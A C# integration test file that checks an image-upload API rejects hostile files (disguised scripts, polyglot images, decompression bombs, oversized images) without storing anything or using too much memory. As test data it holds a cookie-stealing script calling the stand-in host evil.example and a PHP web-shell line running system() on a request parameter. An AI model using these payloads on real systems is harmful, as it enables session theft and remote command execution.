using System.Collections.Concurrent;
using System.Globalization;
using System.Security.Cryptography;
using System.Text;
using Atapos.IntegrationTests.Harness;
using Shouldly;
using Xunit;
using Xunit.Abstractions;

namespace Atapos.IntegrationTests.Images;

/// <summary>An upload cannot hurt: files that are something else, broken, too large, or bombs leave nothing anywhere.</summary>
public sealed class HostileFileTests(PictureShop pictures, ITestOutputHelper output) : IClassFixture<PictureShop>
{
    private const int Files = 500;
    private const int AtOnce = 4;
    private const long MostMemory = 64L * 1024 * 1024;

    private const string Product = """{"pr_name":"Palsu","pr_base_price":1}""";

    private static readonly byte[] Script = "<script>fetch('//evil.example/'+document.cookie)</script>"u8.ToArray();
    private static readonly byte[] Bomb = Pictures.Deflated(new byte[100_000_000]);

    // Each makes another file of its kind for every number.
    private static readonly (string Kind, Func<int, byte[]> Make)[] Kinds =
    [
        ("noise", number => Noise(number, 1_000)),
        ("svg", number => Encoding.UTF8.GetBytes($"<svg xmlns='http://www.w3.org/2000/svg' id='i{number}' onload='alert(1)'/>")),
        ("html", number => Encoding.UTF8.GetBytes($"<!doctype html><title>{number}</title><script>alert(1)</script>")),
        ("php", number => Encoding.UTF8.GetBytes($"<?php system($_GET['c{number}']); ?>")),
        ("gif", number => [.. "GIF89a"u8, .. Noise(number, 300)]),
        ("program", number => [0x7F, .. "ELF"u8, .. Noise(number, 300)]),
        ("zip", number => [.. "PK\x03\x04"u8, .. Noise(number, 300)]),
        ("pdf", number => [.. "%PDF-1.7\n"u8, .. Noise(number, 300)]),
        ("signature of a jpeg and noise", number => [0xFF, 0xD8, 0xFF, 0xE0, .. Noise(number, 500)]),
        ("signature of a png and noise", number => [.. Pictures.Png()[..8], .. Noise(number, 500)]),
        ("png cut off", number => Cut(Pictures.Png(40, 40), number)),
        ("jpeg cut off", number => Cut(Pictures.Jpeg(400), number)),
        ("png with a changed byte", number => Flipped(Pictures.Png(40, 40), number)),
        ("script behind a png", number => [.. Pictures.Png(number + 1, 9), .. Script]),
        ("script behind a jpeg", number => [.. Pictures.Jpeg(number), .. Script]),
        ("archive behind a jpeg", number => [.. Pictures.Jpeg(number), .. "PK\x05\x06"u8, .. new byte[18]]),
        ("script in a comment", number => Pictures.Jpeg(comment: [.. Encoding.ASCII.GetBytes($"{number} "), .. Script])),
        ("script in a text", number => Pictures.Png(before: Pictures.Chunk("tEXt", [.. "a\0"u8, .. Encoding.ASCII.GetBytes($"{number}"), .. Script]))),
        ("script in a compressed text", number => Pictures.Png(before: Pictures.Chunk("zTXt", [.. "a\0\0"u8, .. Pictures.Deflated([.. Noise(number, 99), .. Script])]))),
        ("a bomb of pixels", number => Pictures.Png(number + 1, 8, pixels: Bomb)),
        ("a bomb of text", number => Pictures.Png(number + 1, 8, before: Pictures.Chunk("zTXt", [.. "a\0\0"u8, .. Bomb]))),
        ("more megapixels than allowed", number => Pictures.Jpeg(width: 9_000 + number, height: 9_000)),
        ("a png of four gigapixels", number => Pictures.Png(65_536, 65_536 + number, pixels: Pictures.Deflated(new byte[1_000]))),
        ("a large jpeg out of nothing", number => Pictures.Jpeg(width: 5_000, height: 5_000 + number)),
        ("a jpeg that browsers do not show", number => Pictures.Jpeg(filling: number, frame: 0xC3)),
    ];

    [Fact]
    public async Task Hostile_files_are_refused_and_leave_nothing()
    {
        var product = await pictures.NewProductAsync();
        var tooLarge = Pictures.JpegOf((10 * 1024 * 1024) + 1);
        await pictures.PostAsync($"products/{product}/thumbnail", ("file", Pictures.Png())).Created();

        // In a process of its own, so that its memory is the host's alone; warm, so that what grows is for the files and not for the code.
        await using var host = await HostProcess.StartAsync(pictures.Shop.Database, pictures.Sandbox, pictures.Settings);
        using var http = new HttpClient { BaseAddress = host.Address };
        var admin = new ApiClient(http, "sandbox-admin-1");
        for (var number = 0; number < Kinds.Length * 3; number++)
        {
            await SendAsync(admin, product, number, Kinds[number % Kinds.Length].Make(number));
        }

        var cloud = await pictures.CloudAsync();
        var before = await RowsAsync();
        var answers = new ConcurrentBag<(string Kind, int Status)>();
        var gate = new Lock();
        var (start, peak) = (host.Memory, 0L);

        await Parallel.ForAsync(0, Files, new ParallelOptions { MaxDegreeOfParallelism = AtOnce }, async (number, _) =>
        {
            var (kind, make) = Kinds[number % Kinds.Length];
            var answer = await SendAsync(admin, product, number, number % 50 == 49 ? tooLarge : make(number));
            answers.Add((kind, answer.Status));
            lock (gate)
            {
                peak = Math.Max(peak, host.Memory - start);
            }
        });

        var stored = (await pictures.CloudAsync()).Except(cloud, StringComparer.Ordinal).Count();
        var orphans = await pictures.UnlinkedAsync();
        output.WriteLine(string.Create(
            CultureInfo.InvariantCulture,
            $"PROMISE 12 hostile={Files} kinds={Kinds.Length} refused={answers.Count(answer => answer.Status is 413 or 415 or 422)} stored={stored} orphans={orphans} memory_mb={peak / 1024 / 1024}"));
        answers.Where(answer => answer.Status is not (413 or 415 or 422)).ShouldBeEmpty();
        stored.ShouldBe(0);
        orphans.ShouldBe(0);
        (await RowsAsync()).ShouldBe(before);
        peak.ShouldBeLessThan(MostMemory);
    }

    [Fact]
    public async Task Sound_files_are_taken_beside_them()
    {
        var product = await pictures.NewProductAsync();
        byte[][] sound = [Pictures.Png(40, 40), Pictures.Jpeg(400), Pictures.Jpeg(comment: "taken in Bandung"u8.ToArray())];
        foreach (var file in sound)
        {
            await pictures.PostAsync($"products/{product}/thumbnail", ("file", file)).Created();
        }
    }

    // The same file comes as each of the three kinds of form.
    private static Task<Answer> SendAsync(ApiClient admin, long product, int number, byte[] file) => (number % 3) switch
    {
        0 => admin.SendAsync(HttpMethod.Post, $"products/{product}/thumbnail", PictureShop.Form(("file", file))),
        1 => admin.SendAsync(HttpMethod.Post, "products", PictureShop.Form(("data", Product), ("thumbnail", file))),
        _ => admin.SendAsync(HttpMethod.Post, "products", PictureShop.Form(("data", Product), ("thumbnail", Pictures.Png()), ("detail_images", file))),
    };

    private Task<string?> RowsAsync() => pictures.Shop.Database.ReadAsync<string>(
        "select (select count(*) from catalog.products)::text || ' ' || (select md5(string_agg(i::text, ';' order by i.me_id, i.id)) from catalog.product_images i)");

    private static byte[] Cut(byte[] file, int number) => file[..^(1 + (number % (file.Length - 10)))];

    private static byte[] Flipped(byte[] file, int number)
    {
        file[number % file.Length] ^= 0x55;
        return file;
    }

    private static byte[] Noise(int number, int length)
    {
        var noise = new byte[length];
        var seed = SHA256.HashData(BitConverter.GetBytes(number));
        for (var at = 0; at < length; at++)
        {
            noise[at] = (byte)(seed[at % seed.Length] ^ (at & 0xFF));
        }

        return noise;
    }
}
